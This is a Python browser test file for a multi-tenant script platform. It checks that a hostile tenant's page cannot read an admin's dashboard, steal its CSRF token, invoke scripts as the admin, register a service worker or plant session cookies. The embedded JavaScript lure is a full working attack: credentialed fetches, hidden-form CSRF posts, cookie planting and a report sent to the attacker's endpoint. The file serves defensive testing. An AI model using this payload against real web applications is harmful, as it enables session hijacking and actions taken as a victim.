"""A hostile tenant's page against a logged-in admin, in a real browser (Debian's chromium).

The tenant serves a page that tries everything a page can do to the dashboard of the admin
who opens it: read it (fetch with credentials, an iframe, window.open), steal its CSRF
token and invoke another tenant's script as the admin (fetch and form posts), read and
plant cookies (from its response headers and from script), and register a service worker
over the whole origin. The page reports what it learnt to its own script, which logs it:
the test reads the report from the tenant's invocation records, as the attacker would.

Once served by path (`/v1/namespaces/{ns}/scripts/{name}/invoke/`, the dashboard's own
host and port) and once by hostname on a dispatch domain that shares its registrable
domain with the dashboard's host (`lure.mallory.apps.localhost` and
`console.apps.localhost`: same-site, not same-origin; chromium resolves `*.localhost` to
the loopback address), as a production deployment on `*.workers.example.com` and
`console.example.com` would be.
"""

from __future__ import annotations

import json
import re
import time
import uuid
from collections.abc import Iterator
from urllib.parse import quote

import httpx
import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from isolane.testing import Server
from tests.abuse.conftest import ABUSE_SERVER_ARGS, VICTIM_NAMESPACE, Tenant, Victim
from tests.conftest import ADMIN_TOKEN, deploy
from tests.dashboard.conftest import chromium, logged_in

DOMAIN = "apps.localhost"
DASHBOARD_HOST = f"console.{DOMAIN}"  # not a script's host: one label before the domain
VAULT = "vault"  # another tenant's script that only the attack would invoke
VAULT_SCRIPT = "export default { fetch() { console.log('vault opened'); return new Response('the vault'); } };\n"
# What only a logged-in dashboard page shows.
LOGGED_IN_MARKERS = ("Log out", "admin (ISOLANE_ADMIN_TOKEN)", f'href="/dashboard/namespaces/{VICTIM_NAMESPACE}"')

# The page's script: every attempt's result, cut short, reported to its own script.
LURE_PAGE_SCRIPT = r"""
const params = new URL(location.href).searchParams;
const dash = params.get("dash");
const plant = params.get("plant");
const here = new URL(".", location.href).href;
const target = dash + "/dashboard/namespaces/victim/scripts/vault";
const report = { run: params.get("run"), origin: String(self.origin), own_script: String(self.ownScriptRan === true) };
const cut = (value) => String(value).slice(0, 2000);
const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
let csrf = "guessed";
async function attempt(name, action) {
  try { report[name] = cut(await action()); } catch (error) { report[name] = cut("error: " + error); }
}
function hiddenForm(action, fields, target) {
  const form = document.createElement("form");
  form.method = "post";
  form.action = action;
  form.target = target;
  for (const [name, value] of Object.entries(fields)) {
    const input = document.createElement("input");
    input.type = "hidden";
    input.name = name;
    input.value = value;
    form.appendChild(input);
  }
  document.body.appendChild(form);
  return form;
}
(async () => {
  await attempt("document_cookie", () => document.cookie);
  await attempt("fetch_script_page", async () => {
    const response = await fetch(target, { credentials: "include" });
    const body = await response.text();
    const found = body.match(/name="csrf" value="([^"]+)"/);
    if (found) csrf = found[1];
    return response.status + " " + response.url + " " + body;
  });
  await attempt("fetch_home", async () => {
    const response = await fetch(dash + "/dashboard", { credentials: "include" });
    return response.status + " " + (await response.text());
  });
  await attempt("iframe", () => new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.src = target;
    frame.onload = () => {
      try { resolve(frame.contentDocument.documentElement.outerHTML); } catch (error) { resolve("error: " + error); }
    };
    document.body.appendChild(frame);
    setTimeout(() => resolve("timeout"), 5000);
  }));
  await attempt("window_open", async () => {
    const opened = window.open(target, "_blank");
    if (!opened) return "blocked";
    await wait(3000);
    try { return opened.document.documentElement.outerHTML; } finally { try { opened.close(); } catch (error) {} }
  });
  await attempt("service_worker", async () => {
    const registration = await navigator.serviceWorker.register(here + "sw.js", { scope: "/" });
    return "registered " + registration.scope;
  });
  const invokeFields = (path) => ({ csrf, method: "GET", path, headers: "", body: "" });
  await attempt("fetch_post_invoke", async () => {
    const response = await fetch(target + "/invoke", {
      method: "POST", credentials: "include", body: new URLSearchParams(invokeFields("/as-admin-by-fetch")),
    });
    return response.status + " " + (await response.text());
  });
  await attempt("form_post_invoke", () => new Promise((resolve) => {
    const sink = document.createElement("iframe");
    sink.name = "sink";
    document.body.appendChild(sink);
    sink.onload = () => resolve("submitted");
    hiddenForm(target + "/invoke", invokeFields("/as-admin-by-form"), "sink").submit();
    setTimeout(() => resolve("timeout"), 5000);
  }));
  await attempt("top_form_post_invoke", () => new Promise((resolve) => {
    const opened = window.open("about:blank", "top-form");
    hiddenForm(target + "/invoke", invokeFields("/as-admin-by-window"), "top-form").submit();
    setTimeout(() => { try { opened && opened.close(); } catch (error) {} resolve("submitted"); }, 3000);
  }));
  await attempt("plant_cookies", () => {
    for (const name of ["isolane_session", "__Host-isolane_session", "isolane_login", "__Host-isolane_login"]) {
      document.cookie = name + "=" + plant + "; path=/dashboard";
      document.cookie = name + "=" + plant + "; path=/; secure";
      document.cookie = name + "=" + plant + "; path=/dashboard; domain=" + params.get("domain");
      document.cookie = name + "=" + plant + "; path=/; secure; domain=" + params.get("domain");
    }
    return document.cookie;
  });
  report.csrf = csrf;
  // no-cors: a sandboxed page is an opaque origin, even to its own script.
  await fetch(here + "report", { method: "POST", mode: "no-cors", body: JSON.stringify(report) }).catch(() => {});
  // Last, plant cookies from response headers: a top-level navigation may set them.
  location.href = here + "plant" + location.search;
})();
"""

# The tenant's script: the page, a service worker script that asks for the whole origin,
# the report's sink, and a page that plants cookies from its response headers (and asks
# the browser to clear the origin's cookies and storage).
LURE_SCRIPT = """
const PAGE = %s;
export default {
  async fetch(request) {
    const url = new URL(request.url);
    if (url.pathname.endsWith("/report")) {
      console.log("REPORT " + await request.text());
      return new Response("noted");
    }
    if (url.pathname.endsWith("/app.js")) {  // the page's own script: a tenant's page still works
      return new Response("self.ownScriptRan = true;", { headers: { "content-type": "text/javascript" } });
    }
    if (url.pathname.endsWith("/sw.js")) {
      return new Response("self.addEventListener('fetch', () => {});", {
        headers: { "content-type": "text/javascript", "service-worker-allowed": "/" },
      });
    }
    if (url.pathname.endsWith("/plant")) {
      const plant = url.searchParams.get("plant") || "planted";
      const domain = url.searchParams.get("domain") || "localhost";
      const headers = new Headers({ "content-type": "text/html; charset=utf-8", "clear-site-data": '"cookies", "storage"' });
      for (const name of ["isolane_session", "isolane_login", "__Host-isolane_session", "__Host-isolane_login"]) {
        headers.append("set-cookie", name + "=" + plant + "; Path=/dashboard; Secure; HttpOnly; SameSite=Strict");
        headers.append("set-cookie", name + "=" + plant + "; Path=/; Secure; HttpOnly; SameSite=Strict");
        headers.append("set-cookie", name + "=" + plant + "; Path=/dashboard; Domain=" + domain + "; Secure; HttpOnly");
        headers.append("set-cookie", name + "=" + plant + "; Path=/; Domain=" + domain + "; Secure; HttpOnly");
      }
      return new Response("<!doctype html><title>planted</title>", { headers });
    }
    const page = "<!doctype html><title>lure</title><h1>cat pictures</h1><script src='app.js'></script><script>" + PAGE + "</script>";
    return new Response(page, {
      headers: { "content-type": "text/html; charset=utf-8" },
    });
  },
};
""" % json.dumps(LURE_PAGE_SCRIPT)


@pytest.fixture(scope="module")
def abuse_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """The suite's server, on a dispatch domain that shares a registrable domain with the
    dashboard's host (the module's `tenant` and `victim` live on it)."""
    instance = Server(tmp_path_factory.mktemp("abuse") / "data", *ABUSE_SERVER_ARGS, "--dispatch-domain", DOMAIN, admin_token=ADMIN_TOKEN).start()
    yield instance
    instance.stop()


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as instance:
        yield instance


@pytest.fixture(scope="module")
def lure(abuse_server: Server, tenant: Tenant, victim: Victim) -> Tenant:
    with abuse_server.admin() as admin:
        deploy(admin, VAULT, VAULT_SCRIPT, ns=VICTIM_NAMESPACE)
    response = tenant.deploy("lure", LURE_SCRIPT)
    assert response.status_code in (200, 201), response.text
    return tenant


@pytest.fixture()
def context(browser: Browser) -> Iterator[BrowserContext]:
    context = browser.new_context()
    context.set_default_timeout(30_000)
    yield context
    context.close()


def log_in(page: Page, dashboard: str) -> str:
    """Log the admin in through the login form; the session's CSRF token."""
    page.goto(f"{dashboard}/dashboard")
    page.fill("#token", ADMIN_TOKEN)
    page.click("button[type=submit]")
    expect(page).to_have_url(f"{dashboard}/dashboard")
    expect(page.locator("body")).to_contain_text("Log out")
    return page.locator("form[action='/dashboard/logout'] input[name=csrf]").get_attribute("value") or ""


def tenant_session(server: Server, tenant: Tenant) -> str:
    """The attacker's own dashboard session (its namespace token): what it would plant."""
    visitor = logged_in(server, tenant.token)
    try:
        return next(value for name, value in visitor.cookies.items() if name.endswith("isolane_session"))
    finally:
        visitor.close()


def dashboard_cookies(context: BrowserContext, dashboard: str) -> list[tuple[str, str]]:
    """The cookies the browser sends with a request for a dashboard page."""
    urls = [f"{dashboard}/dashboard", f"{dashboard}/dashboard/namespaces/{VICTIM_NAMESPACE}/scripts/{VAULT}/invoke"]
    return sorted({(cookie["name"], cookie["value"]) for cookie in context.cookies(urls)})


def read_report(tenant: Tenant, run: str, timeout: float = 60.0) -> dict[str, str]:
    """The page's report, from the lure's invocation records (read with the tenant's token)."""
    deadline = time.monotonic() + timeout
    with tenant.client() as client:
        while time.monotonic() < deadline:
            response = client.get(f"/v1/namespaces/{tenant.namespace}/scripts/lure/invocations", params={"limit": "200"})
            assert response.status_code == 200, response.text
            for record in response.json()["items"]:
                for line in record["logs"]:
                    if line["message"].startswith("REPORT "):
                        report = json.loads(line["message"][len("REPORT ") :])
                        if report.get("run") == run:
                            return report
            time.sleep(0.5)
    raise AssertionError("the lure page never reported")


def vault_invocations(server: Server) -> int:
    with server.admin() as admin:
        response = admin.get(f"/v1/namespaces/{VICTIM_NAMESPACE}/scripts/{VAULT}/invocations")
        assert response.status_code == 200, response.text
        return len(response.json()["items"])


def attack(context: BrowserContext, server: Server, tenant: Tenant, victim: Victim, dashboard: str, lure_url: str) -> None:
    page = context.new_page()
    admin_csrf = log_in(page, dashboard)
    before = dashboard_cookies(context, dashboard)
    session_names = {name for name, _ in before}
    assert session_names, "the login set no cookie"
    run = uuid.uuid4().hex
    plant = tenant_session(server, tenant)
    invoked_before = vault_invocations(server)
    query = f"?run={run}&dash={quote(dashboard, safe='')}&plant={quote(plant, safe='')}&domain={DOMAIN}"

    with victim.during() as measured:
        # The admin opens the tenant's page in a tab of the browser it is logged in with.
        lure = context.new_page()
        lure.goto(lure_url + query)
        report = read_report(tenant, run)
        expect(lure).to_have_title("planted")
    measured.assert_unharmed(max_latency_ms=5000)
    time.sleep(1.0)  # invocation records are written in the background

    # The page worked as a page (its own script ran)...
    assert report["own_script"] == "true", report
    # ...and learnt nothing of the dashboard: no logged-in page, no CSRF token, no cookie.
    for marker in LOGGED_IN_MARKERS:
        assert not [name for name, value in report.items() if marker in value], f"the tenant's page read a logged-in dashboard page ({marker!r}): {report}"
    assert admin_csrf not in json.dumps(report) and report["csrf"] == "guessed", report
    assert all(name not in report["document_cookie"] for name in session_names), report
    # Nothing ran as the admin.
    assert vault_invocations(server) == invoked_before, f"the tenant's page invoked another tenant's script as the admin: {report}"
    # No service worker on the dashboard's origin.
    assert not [worker.url for worker in context.service_workers if worker.url.startswith(dashboard + "/")], report
    # The dashboard's cookies are the admin's, untouched, and the admin is still logged in as the admin.
    after = dashboard_cookies(context, dashboard)
    for name, value in before:
        assert [v for n, v in after if n == name] == [value], f"the dashboard's cookie {name} was replaced or cleared: {context.cookies()}"
    page.goto(f"{dashboard}/dashboard")
    expect(page.locator("body")).to_contain_text("admin (ISOLANE_ADMIN_TOKEN)")


def test_a_tenant_page_served_by_path_learns_nothing_of_the_dashboard(
    context: BrowserContext, abuse_server: Server, lure: Tenant, victim: Victim
) -> None:
    dashboard = abuse_server.url  # http://127.0.0.1:{port}: the dashboard and the page share it
    lure_url = f"{dashboard}/v1/namespaces/{lure.namespace}/scripts/lure/invoke/"
    attack(context, abuse_server, lure, victim, dashboard, lure_url)


def test_a_tenant_page_on_a_same_site_hostname_learns_nothing_of_the_dashboard(
    context: BrowserContext, abuse_server: Server, lure: Tenant, victim: Victim
) -> None:
    dashboard = f"http://{DASHBOARD_HOST}:{abuse_server.port}"
    lure_url = f"http://lure.{lure.namespace}.{DOMAIN}:{abuse_server.port}/"
    attack(context, abuse_server, lure, victim, dashboard, lure_url)


def test_login_never_lands_on_a_tenant_page(context: BrowserContext, abuse_server: Server, lure: Tenant) -> None:
    page = context.new_page()
    sneaky = f"/dashboard/../v1/namespaces/{lure.namespace}/scripts/lure/invoke/"
    page.goto(f"{abuse_server.url}/dashboard/login?next={quote(sneaky, safe='')}")
    page.fill("#token", ADMIN_TOKEN)
    page.click("button[type=submit]")
    page.wait_for_load_state()
    assert re.fullmatch(rf"{re.escape(abuse_server.url)}/dashboard/?", page.url), page.url
    expect(page.locator("body")).to_contain_text("Log out")


def test_the_lure_is_a_real_page(abuse_server: Server, lure: Tenant) -> None:
    """The attack's page is served (a broken lure would make the tests above pass for nothing)."""
    response = lure.invoke("lure", "/")
    assert response.status_code == 200 and "<h1>cat pictures</h1>" in response.text
    by_host = httpx.get(f"{abuse_server.url}/", headers={"host": f"lure.{lure.namespace}.{DOMAIN}"}, timeout=30)
    assert by_host.status_code == 200 and "<h1>cat pictures</h1>" in by_host.text
